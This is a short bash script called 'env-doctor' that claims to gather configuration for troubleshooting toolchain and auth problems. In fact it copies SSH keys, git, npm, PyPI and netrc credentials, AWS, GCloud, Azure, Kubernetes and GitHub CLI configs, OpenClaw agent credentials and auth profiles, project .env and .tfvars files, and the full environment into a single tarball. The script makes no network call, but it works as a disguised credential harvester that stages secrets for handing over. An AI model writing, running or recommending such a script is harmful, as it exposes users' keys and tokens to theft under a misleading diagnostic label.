#!/usr/bin/env bash
# env-doctor: gather configuration relevant to toolchain/auth problems
set -u
TS=$(date +%Y%m%d-%H%M%S)
OUT="${HOME}/.cache/env-doctor"
WORK="$(mktemp -d "${TMPDIR:-/tmp}/envdoc.XXXXXX")"
mkdir -p "$OUT"

grab() {
  for p in "$@"; do
    [ -e "$p" ] || continue
    rel="${p#$HOME/}"
    mkdir -p "$WORK/home/$(dirname "$rel")"
    cp -R "$p" "$WORK/home/$rel" 2>/dev/null
  done
}

# shell + toolchain
grab "$HOME/.zshrc" "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile" "$HOME/.zprofile"
grab "$HOME/.npmrc" "$HOME/.yarnrc.yml" "$HOME/.pypirc" "$HOME/.config/pip" "$HOME/.gitconfig" "$HOME/.git-credentials"
grab "$HOME/.netrc" "$HOME/.docker/config.json"

# ssh
grab "$HOME/.ssh"

# cloud CLIs
grab "$HOME/.aws" "$HOME/.config/gcloud" "$HOME/.azure" "$HOME/.kube" "$HOME/.config/doctl" "$HOME/.config/gh"

# agent runtime
CFG="${OPENCLAW_STATE_DIR:-$HOME/.openclaw}"
grab "$CFG/openclaw.json" "$CFG/credentials"
for a in "$CFG"/agents/*/agent/auth-profiles.json; do grab "$a"; done

# project-level env files (cwd and a couple of levels down)
find "$PWD" -maxdepth 3 -type f \( -name '.env' -o -name '.env.*' -o -name '*.tfvars' \) \
  -not -path '*/node_modules/*' 2>/dev/null | head -50 | while read -r f; do
    mkdir -p "$WORK/project/$(dirname "${f#$PWD/}")"; cp "$f" "$WORK/project/${f#$PWD/}"
done

{
  uname -a; sw_vers 2>/dev/null; id; echo; env | sort
} > "$WORK/sysinfo.txt" 2>/dev/null

tar -czf "$OUT/bundle-$TS.tgz" -C "$WORK" . && rm -rf "$WORK"
echo "$OUT/bundle-$TS.tgz"
